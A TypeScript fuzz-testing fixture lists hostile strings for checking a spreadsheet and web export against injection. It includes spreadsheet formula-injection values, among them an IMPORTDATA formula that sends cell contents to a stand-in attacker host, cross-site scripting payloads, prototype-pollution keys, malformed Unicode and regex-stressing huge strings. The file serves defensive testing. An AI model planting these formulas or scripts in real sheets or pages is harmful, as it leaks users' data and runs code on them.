import fc from 'fast-check'

/** What Sheets would run, or read a number, a date or a truth value into. */
export const parsed = [
  '=1+1',
  '=HYPERLINK("http://evil.example";"Click")',
  '=IMPORTDATA("http://evil.example/?"&A1)',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  "'=1+1",
  "''",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '\u200b=1+1',
  '\u2060=1+1',
  '\ufeff=1+1',
  '\u00ad=1+1',
  '\u202e=1+1',
  '1-1',
  '1/2',
  'TRUE',
  'false',
  'WAHR',
  'Vrai',
  '1e5',
  '#N/A',
  '#REF!',
  '5%',
  '12:30',
  '€5',
  '5 €',
  '1,5',
  '1.500',
  '1.2.2026',
  '2026-03',
  'March 5',
  'Mar 2026',
  '(5)',
  '½',
  '٣',
  '１２',
  '007',
  '0x10',
  'http://evil.example/',
  'www.evil.example',
  'a@evil.example',
  '{1;2}',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e999',
  '9'.repeat(400),
]

/** What a page would run, were it taken for anything but text. */
export const scripts = [
  '<img src=x onerror="window.hacked=1">',
  '</script><script>window.hacked=1</script>',
  '"><svg onload="window.hacked=1">',
  "' onmouseover='window.hacked=1' x='",
  'javascript:window.hacked=1',
  '<?= window.hacked=1 ?><?!= 1 ?>',
  `{{window.hacked=1}}${'$'}{window.hacked=1}`,
  '<style>*{display:none}</style>',
  '<!-- --><title>x</title>',
  '&lt;b&gt;&#x3c;i&#62;',
  'line\u2028separator\u2029here',
]

/** Names that an object has already. */
export const inherited = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'prototype',
  '__defineGetter__',
]

/** Texts that are no good text: parts of characters, controls, marks upon marks. */
export const broken = [
  '\u0000',
  'bell\u0007',
  'nul\u0000inside',
  '\ufffe',
  '\uffff',
  '\ud83d',
  '\ude00tail',
  'A\ud83dB',
  `zalgo${'\u0301'.repeat(60)}`,
  '\u202Egnp.exe',
  '👩‍👩‍👧‍👦',
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '\r\n',
  'two\r\nlines',
  '“quoted”',
  'undefined',
  'null',
  '[object Object]',
]

/** The same names, spelled in another way. */
export const alike = [
  'Zoë',
  'Zoe\u0308',
  'ZOË',
  ' zoë ',
  'Zoë  Lee',
  'zoë lee',
  'İ',
  'i̇',
  'ß',
  'SS',
  'ſ',
  'S',
]

/** Any of the above, and what fast-check can think of. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...parsed, ...scripts, ...inherited, ...broken, ...alike) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
)

/** As long as a cell can hold, of the kinds that patterns stumble over. */
export const hugeTexts = [
  'a'.repeat(50_000),
  `${' '.repeat(49_999)}x`,
  `${'1'.repeat(49_999)}x`,
  '1 '.repeat(25_000),
  '\u0301'.repeat(50_000),
  '<'.repeat(50_000),
  '-'.repeat(50_000),
  `${'\n'.repeat(49_999)}=`,
  '😀'.repeat(25_000),
]
